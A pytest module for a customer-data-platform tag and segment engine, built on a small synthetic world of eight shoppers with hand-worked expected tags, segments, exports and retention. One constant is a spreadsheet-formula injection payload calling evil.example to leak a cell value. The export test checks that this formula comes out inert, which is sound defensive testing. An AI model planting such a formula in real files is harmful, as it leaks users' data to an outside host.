"""Tags and segments on real Spark + Delta over tiny inline gold tables (the schemas of GOLD_INTERFACE / docs).

One small world of eight persons (A..H), run dates D1 = 2026-06-30 and D2 = 2026-07-10, the shipped
conf/tags and conf/segments. The expected answers are worked out by hand in the comments next to each person.
Windows: `within_days: 180` on D1 means paid_date in (2026-01-01, 2026-06-30]; `within_days: 90` means
(2026-04-01, 2026-06-30]. The tests in this module run in order on one lake (one Spark session, few JVM jobs).
"""
from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from typing import Any

import pytest

from cdp.tags import engine as E

pytestmark = pytest.mark.spark

D1 = dt.date(2026, 6, 30)
D2 = dt.date(2026, 7, 10)
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

WECOM_SCHEMA = ("external_userid string, guide_userid string, store_id string, name_masked string, gender string, "
                "unionid_hash string, remark_mobile_hashes array<string>, remark_mobiles_masked array<string>, "
                "tags array<struct<group_name:string,tag_name:string>>, added_at timestamp, "
                "last_change_type string, last_change_at timestamp, is_active boolean, one_id string")
EVENTS_SCHEMA = ("event_id string, event_type string, event_at timestamp, appid string, openid_hash string, "
                 "unionid_hash string, mobile_hash string, member_card_no string, order_id string, "
                 "amount decimal(18,2), coupon_id string, one_id string")
CRM_SCHEMA = "member_card_no string, mobile_hash string, marketing_consent boolean, one_id string"
PII_SCHEMA = "kind string, value_hash string, value string, first_seen_at timestamp"

CATALOG = {  # sku -> (name, category, product brand): the generator's catalog
    "S10101": ("金枕榴莲", "榴莲", "泰国进口"), "S10102": ("猫山王榴莲", "榴莲", "马来西亚进口"),
    "S10103": ("榴莲肉盒装 300g", "榴莲", "自营"), "S10104": ("熊猫大鲜 金枕榴莲 A级", "榴莲", "熊猫大鲜"),
    "S20101": ("巨峰葡萄", "葡萄", "自营"), "S20102": ("黑藤巨峰", "葡萄", "自营"),
    "S20104": ("熊猫大鲜 阳光玫瑰 精品盒", "葡萄", "熊猫大鲜"), "S60101": ("烟台红富士苹果", "苹果", "自营"),
}


def frame(spark, ddl: str, rows: list[dict[str, Any]]):
    names = [part.strip().split(" ", 1)[0] for part in ddl.split(", ")]
    unknown = {k for r in rows for k in r} - set(names)
    assert not unknown, unknown
    return spark.createDataFrame([tuple(r.get(n) for n in names) for r in rows], ddl)


def fact(one_id: str, order: str, day: str, sku: str, amount: str, channel: str = "pos", store: str | None = "ST1",
         is_return: bool = False) -> dict[str, Any]:
    name, category, _ = CATALOG[sku]
    paid = dt.date.fromisoformat(day)
    return {"one_id": one_id, "channel": channel, "brand_id": "main", "store_id": store if channel == "pos" else None,
            "order_id": order, "source_record_id": order, "line_key": sku, "paid_date": paid,
            "paid_at": dt.datetime.combine(paid, dt.time(2, 0)), "sku_id": sku, "sku_name": name,
            "category": category, "quantity": Decimal("1.000"), "amount": Decimal(amount), "is_return": is_return}


def member(card: str, consent: bool, paid: bool = False) -> dict[str, Any]:
    return {"brand_id": "main", "member_card_no": card, "level": "普通会员", "is_paid_member": paid,
            "marketing_consent": consent, "registered_at": dt.datetime(2025, 1, 1)}


def profile(one_id: str, cards: list[dict], has_app: bool | None, wecom: bool, channels: list[str],
            home: str | None, city: str | None) -> dict[str, Any]:
    return {"one_id": one_id, "name_masked": f"{one_id}*", "gender": "F", "memberships": cards,
            "is_member": bool(cards), "is_paid_member": any(c["is_paid_member"] for c in cards),
            "has_marketing_consent": any(c["marketing_consent"] for c in cards), "has_app": has_app,
            "home_store_id": home, "home_city": city, "city": city, "is_wecom_added": wecom, "channels": channels,
            "wecom_guide_userids": ["g1"] if wecom else [], "order_count": 0, "as_of_date": D1}


# --- the persons ----------------------------------------------------------------------------------------------
# A: member (consent, no app), WeCom-added; durian 05-01 + 06-01 (2 orders in 180 d) and kyoho 06-01 -> durian
#    lover, kyoho-but-never-black-vine; never premium. Its WeCom external_userid is a formula (export safety).
# B: member WITHOUT consent, app; durian 01-01 (just outside 180 d: the window is open at its start) + 03-01
#    (1 order in window -> not a durian lover); kyoho + premium 03-01; last purchase 03-01 -> no purchase in 90 d.
# C: paid member (consent, app); 4 orders Apr-Jun of 300 each (>= 1000 in 180 d), bought kyoho AND black-vine;
#    premium durian on 2025-06-01 (outside 365 d, but `never_bought` has no window, so C "has bought premium").
# D: not a member; orders 04-01 (boundary: outside 90 d), 04-02, 05-01, 06-30 -> 3 orders in 90 d (not
#    frequent); durian bought once 05-01 and a durian RETURN line on 06-30 (returns are not buys).
# E: member (consent, has_app unknown), 4 orders in 90 d -> frequent, not paid; guide tags 爱吃榴莲/葡萄控/重要客户.
# F: member (consent, app), last purchase 02-15 -> dormant (stage from gold_lifecycle), no purchase in 90 d.
# G: prospect, no purchase; an INACTIVE WeCom contact tagged 爱吃榴莲 (removed contacts do not count).
# H: member without purchase or app; on the uploaded VIP invite list by member card.
def world(spark) -> dict[str, Any]:
    profiles = [
        profile("A", [member("C-A", True)], False, True, ["pos"], "ST1", "上海"),
        profile("B", [member("C-B", False)], True, False, ["miniprogram", "pos"], "ST1", "上海"),
        profile("C", [member("C-C", True, paid=True)], True, False, ["pos"], "ST2", "杭州"),
        profile("D", [], None, False, ["ecommerce"], None, None),
        profile("E", [member("C-E", True)], None, True, ["pos"], "ST1", "上海"),
        profile("F", [member("C-F", True)], True, False, ["pos"], "ST2", "杭州"),
        profile("G", [], None, False, [], None, None),
        profile("H", [member("C-H", True)], False, False, [], None, None),
    ]
    facts = [
        fact("A", "A1", "2026-05-01", "S10101", "39.80"), fact("A", "A2", "2026-06-01", "S10102", "89.00"),
        fact("A", "A2", "2026-06-01", "S20101", "16.80"),
        fact("B", "B1", "2026-01-01", "S10101", "39.80"), fact("B", "B2", "2026-03-01", "S10103", "59.90", "miniprogram"),
        fact("B", "B2", "2026-03-01", "S20101", "16.80", "miniprogram"),
        fact("B", "B2", "2026-03-01", "S20104", "69.90", "miniprogram"),
        fact("C", "C0", "2025-06-01", "S10104", "49.80", store="ST2"),
        *[fact("C", f"C{i}", day, sku, "300.00", store="ST2") for i, (day, sku) in enumerate(
            [("2026-04-05", "S20101"), ("2026-04-20", "S20102"), ("2026-05-10", "S60101"), ("2026-06-20", "S60101")], 1)],
        *[fact("D", f"D{i}", day, "S60101", "12.80", "ecommerce") for i, day in enumerate(
            ["2026-04-01", "2026-04-02", "2026-06-30"], 1)],
        fact("D", "D4", "2026-05-01", "S10101", "39.80", "ecommerce"),
        fact("D", "D5", "2026-06-30", "S10101", "-39.80", "ecommerce", is_return=True),
        *[fact("E", f"E{i}", day, "S60101", "12.80") for i, day in enumerate(
            ["2026-04-02", "2026-04-15", "2026-05-01", "2026-06-30"], 1)],
        fact("F", "F1", "2026-02-15", "S60101", "12.80", store="ST2"),
    ]
    stages = {"A": "active", "B": "active", "C": "loyal", "D": "new", "E": "active", "F": "dormant",
              "G": "prospect", "H": "member_no_purchase"}
    lifecycle = [{"one_id": k, "as_of_date": D1, "stage": v, "stage_since": dt.date(2026, 6, 1)}
                 for k, v in stages.items()]
    rfm = [{"one_id": k, "as_of_date": D1, "window_days": 365, "rfm_segment": v}
           for k, v in {"A": "Champions", "C": "Loyal", "F": "At Risk"}.items()]
    scores = [  # the latest scored_date on or before the run date counts per model; 07-05 is after D1
        {"one_id": "A", "model": "churn", "score": 0.8, "grade": "high", "scored_date": dt.date(2026, 6, 1)},
        {"one_id": "A", "model": "churn", "score": 0.5, "grade": "medium", "scored_date": dt.date(2026, 6, 29)},
        {"one_id": "A", "model": "churn", "score": 0.1, "grade": "low", "scored_date": dt.date(2026, 7, 5)},
        {"one_id": "E", "model": "repurchase", "score": 0.9, "grade": "high", "scored_date": D1},
    ]
    contacts = [
        {"external_userid": INJECTION, "guide_userid": "g1", "store_id": "ST1", "one_id": "A", "is_active": True,
         "tags": [], "unionid_hash": "uh-A", "remark_mobile_hashes": ["mh-A-remark"]},
        {"external_userid": "wmE", "guide_userid": "g2", "store_id": "ST1", "one_id": "E", "is_active": True,
         "tags": [("偏好", "葡萄控"), ("客户等级", "重要客户"), ("偏好", "爱吃榴莲")], "remark_mobile_hashes": []},
        {"external_userid": "wmG", "guide_userid": "g1", "store_id": "ST1", "one_id": "G", "is_active": False,
         "tags": [("偏好", "爱吃榴莲")], "remark_mobile_hashes": []},
    ]
    events = [{"event_id": "e1", "event_type": "order_paid", "event_at": dt.datetime(2026, 3, 1), "one_id": "B",
               "unionid_hash": "uh-B"},
              {"event_id": "e2", "event_type": "app_login", "event_at": dt.datetime(2026, 6, 1), "one_id": "A",
               "unionid_hash": "uh-A", "mobile_hash": "mh-A"}]
    return {
        "gold_profiles": frame(spark, E.PROFILES_SCHEMA, profiles),
        "gold_order_facts": frame(spark, E.ORDER_FACTS_SCHEMA, facts),
        "gold_lifecycle": frame(spark, E.LIFECYCLE_SCHEMA, lifecycle),
        "gold_rfm": frame(spark, E.RFM_SCHEMA, rfm),
        "gold_model_scores": frame(spark, E.MODEL_SCORES_SCHEMA, scores),
        "silver_wecom_contacts": frame(spark, WECOM_SCHEMA, contacts),
        "silver_miniprogram_events": frame(spark, EVENTS_SCHEMA, events),
        "silver_crm_members": frame(spark, CRM_SCHEMA, [
            {"member_card_no": "C-A", "mobile_hash": "mh-A", "one_id": "A"},
            {"member_card_no": "C-B", "mobile_hash": "mh-B", "one_id": "B"}]),
        "pii_values": frame(spark, PII_SCHEMA, [
            {"kind": "unionid", "value_hash": "uh-A", "value": "oUnion-A"},
            {"kind": "unionid", "value_hash": "uh-B", "value": "oUnion-B"}]),
        "silver_catalog": frame(spark, E.CATALOG_SCHEMA, [
            {"sku_id": k, "sku_name": v[0], "category": v[1], "brand": v[2]} for k, v in CATALOG.items()]),
        "silver_stores": frame(spark, E.STORES_SCHEMA, [{"store_id": "ST1", "city": "上海"},
                                                        {"store_id": "ST2", "city": "杭州"}]),
    }



@pytest.fixture(scope="module")
def lake(spark, tmp_path_factory):
    from cdp.config import load_settings
    from cdp.lake import overwrite_table

    root = tmp_path_factory.mktemp("tags_world")
    settings = load_settings("local", overrides={"landing_dir": str(root / "landing"), "lake_dir": str(root / "lake")})
    for name, df in world(spark).items():
        overwrite_table(df, settings, name)
    manual = root / "landing" / "manual"
    manual.mkdir(parents=True)
    # an uploaded list: H's card, a card nobody holds, a blank line
    (manual / "vip_invite_list.csv").write_text("member_card_no\nC-H\nC-UNKNOWN\n \n", encoding="utf-8")
    return settings


def long_as_dict(df) -> dict[str, dict[str, str]]:
    out: dict[str, dict[str, str]] = {}
    for r in df.collect():
        out.setdefault(r["tag"], {})[r["one_id"]] = r["value"]
    return out


EXPECTED_D1 = {
    "durian_lover": {"A": "true"},
    "kyoho_not_black_vine": {"A": "true", "B": "true"},
    "premium_buyer": {"B": "true"},                       # C's premium buy is older than 365 days
    "no_purchase_90d": {"B": "true", "F": "true"},        # G and H never bought, so they are not "lapsed"
    "big_spender_180d": {"C": "true"},
    "member_without_app": {"A": "true", "E": "true", "H": "true"},   # E's has_app is unknown (null)
    "paid_member": {"C": "true"},
    "home_city": {"A": "上海", "B": "上海", "C": "杭州", "E": "上海", "F": "杭州"},
    "lifecycle_stage": {"A": "active", "B": "active", "C": "loyal", "D": "new", "E": "active", "F": "dormant",
                        "G": "prospect", "H": "member_no_purchase"},
    "rfm_segment": {"A": "Champions", "C": "Loyal", "F": "At Risk"},
    "churn_grade": {"A": "medium"},                       # 06-29 is the latest churn score on or before D1
    "repurchase_grade": {"E": "high"},
    "vip_invite_list": {"H": "true"},
    "guide_durian_fan": {"E": "true"},                    # G's contact is inactive
    "guide_vip": {"E": "true"},
    "guide_preferences": {"E": "爱吃榴莲,葡萄控"},       # sorted, comma-joined tags of group 偏好
}


def test_tags_long_wide_history_on_d1(spark, lake):
    from pyspark.sql import functions as F

    from cdp.build_tags import run
    from cdp.lake import read_table

    summary = run(spark, lake, D1)
    assert summary["profiles"] == 8
    long = read_table(spark, lake, "gold_tags_long")
    assert long.schema.simpleString() == "struct<one_id:string,tag:string,value:string,computed_date:date>"
    assert long_as_dict(long) == EXPECTED_D1
    assert {r[0] for r in long.select("computed_date").distinct().collect()} == {D1}

    # wide: one row per profile, flag tags as booleans (false when absent), value tags as text
    wide = read_table(spark, lake, "gold_tags_wide")
    assert wide.count() == 8
    assert dict(wide.dtypes)["durian_lover"] == "boolean" and dict(wide.dtypes)["lifecycle_stage"] == "string"
    got = {r["one_id"]: (r["durian_lover"], r["kyoho_not_black_vine"], r["churn_grade"], r["redeemed_black_vine_trial"])
           for r in wide.collect()}
    assert got == {"A": (True, True, "medium", False), "B": (False, True, None, False),
                   **{k: (False, False, None, False) for k in "CDEFGH"}}

    # first run: every tag held is an `enter`
    history = read_table(spark, lake, "gold_tag_history")
    assert history.groupBy("change").count().collect() == [("enter", long.count())]

    # running the same date again changes nothing (history is still measured against the day before)
    run(spark, lake, D1)
    assert long_as_dict(read_table(spark, lake, "gold_tags_long")) == EXPECTED_D1
    assert read_table(spark, lake, "gold_tag_history").filter(F.col("change") == "enter").count() == long.count()
    assert read_table(spark, lake, "gold_tag_history").count() == long.count()


def test_segments_preview_run_export_on_d1(spark, lake, tmp_path, capsys):
    from pyspark.sql import functions as F

    from cdp.lake import read_table
    from cdp.tags.segments import export_segment, load_segment, preview, run_segments

    summary = run_segments(spark, lake, D1)
    # each example segment, by hand from the persons above
    assert summary["segments"] == {
        "durian_lovers": 1, "kyoho_not_black_vine": 2, "members_without_app": 3, "never_bought_premium": 4,
        "frequent_not_paid_member": 1, "dormant_3_6_months": 1, "wecom_guide_added": 2, "wecom_not_added": 4}
    members = {}
    for r in read_table(spark, lake, "gold_segment_members").collect():
        members.setdefault(r["segment"], set()).add(r["one_id"])
        assert r["run_date"] == D1
    assert members == {
        "durian_lovers": {"A"}, "kyoho_not_black_vine": {"A", "B"}, "members_without_app": {"A", "E", "H"},
        "never_bought_premium": {"A", "D", "E", "F"},   # B bought premium in March, C in 2025 (no window)
        "frequent_not_paid_member": {"E"},              # C is paid; D has 3 orders after the 04-01 boundary
        "dormant_3_6_months": {"F"}, "wecom_guide_added": {"A", "E"}, "wecom_not_added": {"B", "C", "D", "F"}}
    run_segments(spark, lake, D1)   # idempotent per run date
    assert read_table(spark, lake, "gold_segment_members").count() == 18

    # preview (the console's call): count, breakdowns, masked samples
    result = preview(spark, lake, load_segment("kyoho_not_black_vine", lake))
    assert (result.count, result.by_stage, result.by_channel, result.by_store) == (
        2, {"active": 2}, {"pos": 2, "miniprogram": 1}, [("ST1", 2)])
    assert [(s["one_id"], s["name_masked"], s["lifecycle_stage"]) for s in result.samples] == [
        ("A", "A*", "active"), ("B", "B*", "active")]
    # a definition straight from a dict, using tags and a model grade: A (medium churn) or E (guide VIP)
    adhoc = preview(spark, lake, {"name": "adhoc", "where": {"any": [
        {"model": {"name": "churn", "grade": ["medium", "high"]}}, {"tag": "guide_vip"}]}}, samples=0)
    assert (adhoc.count, adhoc.by_stage, adhoc.samples) == (2, {"active": 2}, [])
    # the command prints the same (in-process: it reuses this Spark session)
    from cdp.cli import main

    assert main(["segment", "preview", "kyoho_not_black_vine", "--lake", lake.lake_dir,
                 "--landing", lake.landing_dir]) == 0
    printed = capsys.readouterr().out
    assert "segment kyoho_not_black_vine as of 2026-06-30: 2 profiles" in printed
    assert "by lifecycle stage: active 2\nby channel:         pos 2, miniprogram 1\nby home store:      ST1 2" in printed
    assert '"one_id": "A", "name_masked": "A*"' in printed
    empty = preview(spark, lake, {"name": "nobody", "where": {"rfm": "Lost"}})
    assert (empty.count, empty.by_stage, empty.by_channel, empty.samples) == (0, {}, {}, [])

    # export: only A of {A, B} has consent; A's WeCom id is a formula and must come out inert
    out = tmp_path / "kyoho_wecom.csv"
    s = export_segment(spark, lake, "kyoho_not_black_vine", "wecom", out)
    assert (s["members"], s["consented"], s["excluded_no_consent"], s["rows"]) == (2, 1, 1, 1)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [["one_id", "external_userid", "guide_userid", "store_id"],
                                            ["A", "'" + INJECTION, "g1", "ST1"]]
    s = export_segment(spark, lake, "kyoho_not_black_vine", "unionid", tmp_path / "u.csv")
    assert s["rows"] == 1 and (tmp_path / "u.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "one_id,unionid", "A,oUnion-A"]        # B's unionid is not exported: no consent
    s = export_segment(spark, lake, "kyoho_not_black_vine", "mobile_hash", tmp_path / "m.csv")
    assert (tmp_path / "m.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "one_id,mobile_hash", "A,mh-A", "A,mh-A-remark"]    # CRM/mini-program and the guide's remark, deduplicated
    # F is a consenting member of dormant_3_6_months without any WeCom contact: counted, not exported
    s = export_segment(spark, lake, "dormant_3_6_months", "wecom", tmp_path / "f.csv")
    assert (s["members"], s["consented"], s["consented_without_identifier"], s["rows"]) == (1, 1, 1, 0)
    assert read_table(spark, lake, "gold_segment_members").filter(F.col("segment") == "x").count() == 0
    # a date segments were never run for is an error naming the dates that exist, not an empty file
    from cdp.errors import ConfigError

    with pytest.raises(ConfigError, match=r"no segment has members on 2026-06-01.*latest run dates: 2026-06-30"):
        export_segment(spark, lake, "kyoho_not_black_vine", "wecom", tmp_path / "none.csv", dt.date(2026, 6, 1))
    assert not (tmp_path / "none.csv").exists()


def test_d2_history_and_campaign_feedback(spark, lake):
    from pyspark.sql import functions as F

    from cdp.build_tags import run
    from cdp.lake import append_table, read_table
    from cdp.tags.segments import run_segments

    # D2 inputs: B buys durian again on 07-05 (2 orders in 180 d -> enters durian_lover, leaves no_purchase_90d);
    # E becomes loyal (value change); A's churn grade of 07-05 is now the latest (medium -> low).
    append_table(frame(spark, E.ORDER_FACTS_SCHEMA, [fact("B", "B3", "2026-07-05", "S10101", "39.80")]),
                 lake, "gold_order_facts")
    stages = {r["one_id"]: r["stage"] for r in read_table(spark, lake, "gold_lifecycle").collect()}
    stages["E"] = "loyal"
    append_table(frame(spark, E.LIFECYCLE_SCHEMA, [{"one_id": k, "as_of_date": D2, "stage": v} for k, v in stages.items()]),
                 lake, "gold_lifecycle")
    # redemptions of the kyoho campaign's coupon CP-HTJF-TRIAL: A (member since D1) on local 07-03 (UTC 07-02
    # 17:00 = 01:00 Shanghai); B on 06-29, before being selected; E is not in the campaign's segment. B also
    # redeems another coupon and one without a coupon id inside the window: neither is the campaign's.
    trial = "CP-HTJF-TRIAL"
    append_table(frame(spark, EVENTS_SCHEMA, [
        {"event_id": "r1", "event_type": "coupon_redeem", "event_at": dt.datetime(2026, 7, 2, 17), "one_id": "A",
         "coupon_id": trial},
        {"event_id": "r2", "event_type": "coupon_redeem", "event_at": dt.datetime(2026, 6, 29, 3), "one_id": "B",
         "coupon_id": trial},
        {"event_id": "r3", "event_type": "coupon_redeem", "event_at": dt.datetime(2026, 7, 5, 3), "one_id": "E",
         "coupon_id": trial},
        {"event_id": "r4", "event_type": "coupon_redeem", "event_at": dt.datetime(2026, 7, 4, 3), "one_id": "B",
         "coupon_id": "CPMAIN007"},
        {"event_id": "r5", "event_type": "coupon_redeem", "event_at": dt.datetime(2026, 7, 6, 3), "one_id": "B"}]),
        lake, "silver_miniprogram_events")

    for _ in range(2):  # twice: idempotent per date
        summary = run(spark, lake, D2)
    # the shipped retention keeps 400 days of snapshots back from D2 (D1 is 10 days old) and all history
    assert summary["retention_kept_from"] == {"gold_tags_long": "2025-06-06"}
    history = read_table(spark, lake, "gold_tag_history").filter(F.col("changed_date") == D2)
    assert sorted(tuple(r) for r in history.select("one_id", "tag", "change", "value").collect()) == [
        ("A", "churn_grade", "value", "low"),
        ("A", "redeemed_black_vine_trial", "enter", "true"),
        ("B", "durian_lover", "enter", "true"),
        ("B", "no_purchase_90d", "leave", "true"),
        ("E", "lifecycle_stage", "value", "loyal"),
    ]
    # the feedback rule itself: a campaign without a coupon counts any redemption in its window (A and B's
    # others); silver written before coupon_id existed (the column absent) matches no named coupon
    members = read_table(spark, lake, "gold_segment_members")
    events = read_table(spark, lake, "silver_miniprogram_events")

    def fed(coupon, events):
        campaign = E.CampaignFeedback("kyoho_not_black_vine", "fed", coupon_id=coupon, days=30)
        return sorted(r["one_id"] for r in E.campaign_feedback_tags([campaign], members, events, D2,
                                                                    lake.timezone).collect())

    assert (fed(f" {trial} ", events), fed(None, events), fed(trial, events.drop("coupon_id")),
            fed(None, events.drop("coupon_id"))) == (["A"], ["A", "B"], [], ["A", "B"])

    long = read_table(spark, lake, "gold_tags_long")
    assert sorted(r[0] for r in long.select("computed_date").distinct().collect()) == [D1, D2]
    assert long_as_dict(long.filter(F.col("computed_date") == D1)) == EXPECTED_D1   # D1 kept as it was

    run_segments(spark, lake, D2)
    members = read_table(spark, lake, "gold_segment_members")
    assert sorted(r[0] for r in members.select("run_date").distinct().collect()) == [D1, D2]
    durian = {(r["one_id"], r["run_date"]) for r in members.filter(F.col("segment") == "durian_lovers").collect()}
    assert durian == {("A", D1), ("A", D2), ("B", D2)}
    # a segment may refer to the feedback tag its campaign produced
    from cdp.tags.segments import preview

    assert preview(spark, lake, {"name": "fed", "where": {"tag": "redeemed_black_vine_trial"}}).count == 1
    with pytest.raises(Exception, match="gold_segment_base is for 2026-07-10, not 2026-06-30"):
        run_segments(spark, lake, D1)


def test_retention_deletes_old_tag_partitions_only(spark, lake, tmp_path):
    from pyspark.sql import functions as F

    from cdp.lake import read_table
    from cdp.tags.retention import SEGMENT_TABLES, apply_retention

    # a declared retention of 5 days on D2 = 07-10 keeps (07-05, 07-10]: D1 (06-30) goes from every table
    (tmp_path / "tags.yaml").write_text(
        "retention_days: {gold_tags_long: 5, gold_tag_history: 5, gold_segment_members: 5}\n", encoding="utf-8")
    short = lake.model_copy(update={"conf_dir": str(tmp_path)})
    dated = (("gold_tags_long", "computed_date"), ("gold_tag_history", "changed_date"), ("gold_segment_members", "run_date"))
    before = {name: sorted(tuple(r) for r in read_table(spark, lake, name).filter(F.col(column) == D2).collect())
              for name, column in dated}
    assert read_table(spark, lake, "gold_segment_members").filter(F.col("run_date") == D1).count() > 0
    # the tags stage cleans the tag tables only, the segments stage its members
    assert apply_retention(spark, short, D2) == {"gold_tags_long": "2026-07-06", "gold_tag_history": "2026-07-06"}
    assert read_table(spark, lake, "gold_segment_members").filter(F.col("run_date") == D1).count() > 0
    assert apply_retention(spark, short, D2, SEGMENT_TABLES) == {"gold_segment_members": "2026-07-06"}
    for name, rows in before.items():   # exactly D2's rows are left, unchanged
        assert sorted(tuple(r) for r in read_table(spark, lake, name).collect()) == rows, name
    assert all(before.values())
